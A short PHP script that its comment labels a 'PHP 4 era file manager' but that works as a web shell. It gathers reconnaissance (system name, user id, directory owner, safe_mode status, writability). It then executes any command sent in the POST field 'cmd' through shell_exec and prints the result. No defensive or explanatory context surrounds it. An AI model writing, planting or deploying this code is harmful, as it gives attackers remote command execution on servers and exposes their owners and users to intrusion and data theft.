<?php
// PHP 4 era file manager
echo php_uname() . " " . getmyuid();
$owner = posix_getpwuid(fileowner("."));
if (@ini_get("safe_mode")) { echo "safe mode on"; }
$cmd = $HTTP_POST_VARS['cmd'];
if ($cmd) { echo "<pre>" . shell_exec($cmd) . "</pre>"; }
echo is_writable(".") ? "writable" : "read-only";
